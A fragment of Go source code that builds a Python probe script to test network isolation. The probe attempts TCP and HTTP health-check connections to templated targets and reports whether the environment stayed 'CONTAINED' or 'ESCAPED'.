for host, port in [{{TARGETS}}]:
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    s.settimeout(2)
    try:
        s.connect((host, port))
        reached.append((host, port))
    except OSError:
        pass
    finally:
        s.close()
    if {{HTTP}}:
        h = "[%s]" % host if ":" in host else host
        try:
            urllib.request.urlopen("http://%s:%d/healthz" % (h, port), timeout=2)
            reached.append(("http", host, port))
        except Exception:
            pass
print("CONTAINED" if not reached else "ESCAPED %s" % reached)
`, "{{TARGETS}}", strings.Join(ts, ", "), "{{HTTP}}", map[bool]string{true: "True", false: "False"}[httpGet])
}

func pyList(ss []string) string {
	q := make([]string, len(ss))
	for i, s := range ss {
		q[i] = strconv.Quote(s)
	}
	return "[" + strings.Join(q, ", ") + "]"
}
